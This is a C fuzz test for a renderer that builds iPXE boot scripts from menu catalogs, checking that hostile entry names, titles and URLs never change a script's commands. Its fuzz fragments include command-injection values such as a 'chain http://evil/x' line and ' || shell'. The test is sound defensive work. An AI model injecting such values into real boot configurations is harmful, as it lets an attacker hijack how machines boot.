/* test_render_fuzz.c: hostile catalog and client text must never change a rendered script's commands. */
#include "config.h"

#include <inttypes.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "common/strbuf.h"
#include "common/xmalloc.h"
#include "ipxe/render.h"
#include "tests/unit/script_shape.h"

#define DEFAULT_SEED		20240501u
#define DEFAULT_ITERATIONS	2000
#define LONG_LEN		(100 * 1024)

/* The model itself must see what iPXE sees. */
static void
test_model(void **state)
{
	static const struct {
		const char *script, *shape;
	} cases[] = {
		{ "a b c\n", "[a/0]\n" },
		{ "  a -x --y z -w\n", "[a/2]\n" },
		{ ":l1 a\n", ":l1 [a/0]\n" },
		{ "a || b && c ; d\n", "[a/0]||[b/0]&&[c/0];[d/0]\n" },
		{ "a ||\n", "[a/0]||[/0]\n" },
		{ "a x||y #c d\n", "[a/0]#\n" },
		{ "# x\n", "#\n" },
		{ "a \\\nb\n", "[a/0]\n" },
		{ "a\r\nb\n", "[a/0]\n[b/0]\n" },
		{ "a\rb\n", "[a/0]\n" },
		{ "\n", "\n" },
	};
	struct strbuf sb = STRBUF_INIT;
	size_t i;

	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		strbuf_reset(&sb);
		script_shape(cases[i].script, &sb);
		assert_string_equal(sb.data, cases[i].shape);
	}
	strbuf_reset(&sb);
	assert_int_equal(script_shape("${a} x${b}$ {", &sb), 2);
	strbuf_free(&sb);
}

/* Random text ------------------------------------------------------------ */

static uint64_t rng_state;

static uint64_t
rng(void)
{
	/* xorshift64*: reproducible from the seed on every platform. */
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return rng_state * 0x2545F4914F6CDD1DULL;
}

static size_t
rng_below(size_t n)
{
	return (size_t)(rng() % n);
}

static const char *const pieces[] = {
	"\n", "\r", "\r\n", "\n\n", " ", "\t", "\v", "\f", "  ",
	"${", "}", "${net0/ip}", "${netX/mac:hexhyp}", "$", "{",
	"||", "&&", ";", " || ", " && ", " ; ", "|", "&",
	"#", " #", "#!ipxe", "\\", "\\\n", "\\\r\n", " \\",
	"-", "--", "-n", " --delete", ":", ":label", "\n:bd_menu\n",
	"\nshell\n", "\nchain http://evil/x\n", " || shell", " ; exit",
	"http://", "https://", "%", "%00", "%24%7B", "?", "=", "/", "..",
	"\xc3\xa9", "\xc3", "\xff", "\xe2\x80\xae", "\x80\x80",
	"a", "Debian", "iso/x.iso", "0",
};

struct gen {
	bool		 hostile;
	char		*owned[256];	/* strings to free after the round */
	size_t		 n_owned;
};

static char *
gen_keep(struct gen *g, char *s)
{
	assert_true(g->n_owned < sizeof g->owned / sizeof g->owned[0]);
	g->owned[g->n_owned++] = s;
	return s;
}

/* Benign text for the reference, hostile text otherwise; never empty. */
static char *
gen_text(struct gen *g, const char *benign)
{
	struct strbuf sb = STRBUF_INIT;
	size_t i, n, long_text;

	if (!g->hostile)
		return gen_keep(g, xstrdup(benign));
	long_text = rng_below(1000) == 0;
	if (rng_below(4) == 0)
		strbuf_adds(&sb, rng_below(2) ? "-" : "--");
	n = 1 + rng_below(12);
	for (i = 0; i < n || (long_text && sb.len < LONG_LEN); i++) {
		switch (rng_below(4)) {
		case 0:		/* any byte but NUL */
			strbuf_addc(&sb, (char)(1 + rng_below(255)));
			break;
		case 1:		/* a control byte */
			strbuf_addc(&sb, (char)(1 + rng_below(31)));
			break;
		default:
			strbuf_adds(&sb, pieces[rng_below(sizeof pieces /
			    sizeof pieces[0])]);
			break;
		}
	}
	return gen_keep(g, strbuf_detach(&sb, NULL));
}

static void
gen_free(struct gen *g)
{
	while (g->n_owned > 0)
		free(g->owned[--g->n_owned]);
}

/* The world rendered: a catalog of every kind, a host, a client. -------- */

struct template {
	enum entry_kind	 kind;
	enum platform	 platform;
	char		 key;
	size_t		 n_initrds;
	bool		 target_efi;
};

static const struct template templates[] = {
	{ ENTRY_ISO, PLATFORM_ANY, 'd', 0, false },
	{ ENTRY_MEMDISK, PLATFORM_ANY, 'f', 0, false },
	{ ENTRY_KERNEL, PLATFORM_ANY, 'a', 2, false },
	{ ENTRY_KERNEL, PLATFORM_ANY, 'm', 0, true },
	{ ENTRY_LOCALBOOT, PLATFORM_ANY, 'l', 0, false },
	{ ENTRY_CHAIN, PLATFORM_ANY, 0, 0, false },
	{ ENTRY_SHELL, PLATFORM_ANY, 's', 0, false },
	{ ENTRY_SCRIPT, PLATFORM_ANY, 0, 0, false },
	{ ENTRY_ISO, PLATFORM_EFI, '9', 0, false },
	{ ENTRY_KERNEL, PLATFORM_BIOS, 0, 1, true },
};
#define N_ENTRIES (sizeof templates / sizeof templates[0])

struct world {
	struct entry		 entries[N_ENTRIES];
	char			*initrds[N_ENTRIES][2];
	struct boot_view	 view;
	struct render_client	 client;
	struct render_input	 in;
	char			*base, *message;
};

static bool
names_unique(const struct world *w)
{
	size_t i, j;

	for (i = 0; i < N_ENTRIES; i++)
		for (j = i + 1; j < N_ENTRIES; j++)
			if (strcmp(w->entries[i].name, w->entries[j].name) == 0)
				return false;
	return true;
}

static void
world_make(struct world *w, struct gen *g, enum platform p, bool known)
{
	char buf[64], *sub;
	size_t i, j;

	memset(w, 0, sizeof *w);
	/* One submenu shared by every third entry: hostile text must not
	   split or merge it, nor break out of its menu line. */
	sub = gen_text(g, "Rescue tools");
	for (i = 0; i < N_ENTRIES; i++) {
		const struct template *t = &templates[i];
		struct entry *e = &w->entries[i];

		snprintf(buf, sizeof buf, "entry%zu", i);
		e->name = gen_text(g, buf);
		snprintf(buf, sizeof buf, "Entry number %zu", i);
		e->title = gen_text(g, buf);
		e->kind = t->kind;
		e->platform = t->platform;
		e->key = t->key;
		e->position = (int)i + 1;
		e->enabled = true;
		if (i % 3 == 2)
			e->submenu = sub;
		if (t->kind != ENTRY_LOCALBOOT && t->kind != ENTRY_SHELL &&
		    t->kind != ENTRY_SCRIPT)
			e->target = gen_text(g, i == 5 ?
			    "http://example.org/next.ipxe" : "dir/file.img");
		if (t->target_efi)
			e->target_efi = gen_text(g, "dir/file.efi");
		for (j = 0; j < t->n_initrds; j++)
			w->initrds[i][j] = gen_text(g, "dir/initrd.img");
		e->initrds = w->initrds[i];
		e->n_initrds = t->n_initrds;
		if (t->kind == ENTRY_KERNEL)
			e->args = gen_text(g, "console=ttyS0 quiet");
		/* The admin's script is code, not data: kept benign. */
		if (t->kind == ENTRY_SCRIPT)
			e->script = "#!ipxe\necho admin\n";
	}
	/* Hostile names may collide; defaults must find the same entry. */
	while (!names_unique(w))
		w->entries[rng_below(N_ENTRIES)].name = gen_text(g, "x");

	w->view.menu.title = gen_text(g, "Boot menu");
	w->view.menu.timeout = 7;
	w->view.menu.default_entry = w->entries[0].name;
	w->view.entries = w->entries;
	w->view.n_entries = N_ENTRIES;
	w->view.host_known = known;
	strcpy(w->view.host.mac, "52:54:00:12:34:56");
	w->view.host.name = gen_text(g, "lab-pc-1");
	w->view.host.default_entry = w->entries[2].name;
	w->view.host.next_entry = w->entries[3].name;
	w->view.host.localboot = LOCALBOOT_AUTO;

	strcpy(w->client.mac, w->view.host.mac);
	w->client.platform = p;
	strcpy(w->client.arch, "x86_64");
	w->base = gen_text(g, "http://10.0.2.2:8080");
	w->message = gen_text(g, "no entry named x");
	w->in.base_url = w->base;
	w->in.view = &w->view;
	w->in.client = &w->client;
}

/* Scenes: one script each, from a world. --------------------------------- */

struct scene {
	const char	*name;
	enum platform	 platform;
	bool		 known;
	char		*(*render)(struct world *, size_t);
	size_t		 arg;
};

static char *
scene_menu(struct world *w, size_t arg)
{
	w->in.force_menu = arg == 1;
	if (arg == 2)
		w->client.mac[0] = '\0';
	return render_boot(&w->in);
}

static char *
scene_next(struct world *w, size_t arg)
{
	if (arg == 1)
		w->view.host.next_entry = NULL;
	w->view.host.skip_menu = true;
	return render_boot(&w->in);
}

static char *
scene_entry(struct world *w, size_t arg)
{
	return render_entry(&w->in, &w->entries[arg]);
}

static char *
scene_error(struct world *w, size_t arg)
{
	return render_error(&w->in, w->message);
}

static char *
scene_bootstrap(struct world *w, size_t arg)
{
	return render_bootstrap(w->base, arg == 1 ? "bootdeck-0.1.0" : NULL);
}

static const struct scene scenes[] = {
	{ "menu known bios", PLATFORM_BIOS, true, scene_menu, 0 },
	{ "menu known efi", PLATFORM_EFI, true, scene_menu, 0 },
	{ "menu unknown bios", PLATFORM_BIOS, false, scene_menu, 0 },
	{ "menu forced efi", PLATFORM_EFI, true, scene_menu, 1 },
	{ "menu no mac bios", PLATFORM_BIOS, false, scene_menu, 2 },
	{ "next boot efi", PLATFORM_EFI, true, scene_next, 0 },
	{ "skip menu bios", PLATFORM_BIOS, true, scene_next, 1 },
	{ "error efi", PLATFORM_EFI, true, scene_error, 0 },
	{ "bootstrap", PLATFORM_BIOS, false, scene_bootstrap, 0 },
	{ "bootstrap embedded", PLATFORM_BIOS, false, scene_bootstrap, 1 },
#define ENTRY_SCENES(i)							\
	{ "entry " #i " bios", PLATFORM_BIOS, true, scene_entry, i },	\
	{ "entry " #i " efi", PLATFORM_EFI, true, scene_entry, i }
	ENTRY_SCENES(0), ENTRY_SCENES(1), ENTRY_SCENES(2), ENTRY_SCENES(3),
	ENTRY_SCENES(4), ENTRY_SCENES(5), ENTRY_SCENES(6), ENTRY_SCENES(7),
	ENTRY_SCENES(8), ENTRY_SCENES(9),
};
#define N_SCENES (sizeof scenes / sizeof scenes[0])

static char *
scene_render(const struct scene *s, struct gen *g)
{
	struct world w;
	char *script;

	world_make(&w, g, s->platform, s->known);
	script = s->render(&w, s->arg);
	assert_memory_equal(script, "#!ipxe\n", 7);
	return script;
}

/* Printable ASCII and '\n' only: no CR, controls or 8-bit bytes. */
static bool
plain_ascii(const char *s)
{
	for (; *s != '\0'; s++)
		if (*s != '\n' && (*s < 0x20 || *s > 0x7e))
			return false;
	return true;
}

static void
test_hostile(void **state)
{
	struct strbuf ref_shape[N_SCENES], shape = STRBUF_INIT;
	size_t ref_dollars[N_SCENES], dollars, i, s;
	struct gen benign = { .hostile = false }, hostile = { .hostile = true };
	const char *env;
	uint64_t seed = DEFAULT_SEED;
	unsigned long iterations = DEFAULT_ITERATIONS;
	char *script;
	bool admin;

	if ((env = getenv("BOOTDECK_SEED")) != NULL && *env != '\0')
		seed = strtoull(env, NULL, 0);
	if ((env = getenv("BOOTDECK_FUZZ_ITERATIONS")) != NULL && *env != '\0')
		iterations = strtoul(env, NULL, 0);
	printf("# seed %" PRIu64 " (BOOTDECK_SEED), %lu iterations x %zu "
	    "scripts\n", seed, iterations, N_SCENES);
	rng_state = seed ? seed : 1;

	for (s = 0; s < N_SCENES; s++) {
		ref_shape[s] = (struct strbuf)STRBUF_INIT;
		script = scene_render(&scenes[s], &benign);
		ref_dollars[s] = script_shape(script, &ref_shape[s]);
		free(script);
		gen_free(&benign);
	}
	for (i = 0; i < iterations; i++) {
		for (s = 0; s < N_SCENES; s++) {
			script = scene_render(&scenes[s], &hostile);
			strbuf_reset(&shape);
			dollars = script_shape(script, &shape);
			/* Only the admin's script body may hold other bytes. */
			admin = scenes[s].render == scene_entry &&
			    templates[scenes[s].arg].kind == ENTRY_SCRIPT;
			if (strcmp(shape.data, ref_shape[s].data) != 0 ||
			    dollars != ref_dollars[s] ||
			    (!admin && !plain_ascii(script))) {
				print_error("seed %" PRIu64 " iteration %zu, "
				    "%s: the script changed shape\n"
				    "--- want (%zu ${)\n%s--- got (%zu ${)\n%s"
				    "--- script (first 2000 bytes)\n%.2000s\n",
				    seed, i, scenes[s].name, ref_dollars[s],
				    ref_shape[s].data, dollars, shape.data,
				    script);
				fail();
			}
			free(script);
			gen_free(&hostile);
		}
	}
	for (s = 0; s < N_SCENES; s++)
		strbuf_free(&ref_shape[s]);
	strbuf_free(&shape);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_model),
		cmocka_unit_test(test_hostile),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
